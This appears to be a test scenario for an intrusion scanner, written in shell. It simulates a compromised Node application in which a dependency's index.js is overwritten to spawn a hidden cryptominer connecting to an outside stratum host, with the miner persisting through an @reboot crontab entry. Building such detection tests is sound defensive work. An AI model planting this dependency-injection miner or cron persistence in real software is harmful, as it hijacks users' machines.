# id: C10
# mode: scan
# level: suspicious
# due: now
# root: service
# network: world
# title: a module of a node application that starts a miner, and cron of its user
. "$here/intruder.sh"
word name
place=/tmp/.$name-npm
install -d -o shop "$place"
dialler "$place/$name" 3333
wait_for reaches_world >/dev/null
cat >/srv/shop/node_modules/left/index.js <<END
require("child_process").spawn("/bin/sh", ["-c", "$place/$name --url stratum+tcp://$far:3333 --user x; exit"]);
module.exports = text => " " + text;
END
start -u shop -d /srv/shop -e NODE_ENV=production /usr/bin/node /srv/shop/server.js
node=$pid
dialled "$name"
said pid "$(pgrep -f "python3 $place/$name" | head -1)"
crontab_of shop "@reboot $place/$name --url stratum+tcp://$far:3333 --user x"
said entry pid "$node"
said restarter path /var/spool/cron/crontabs/shop
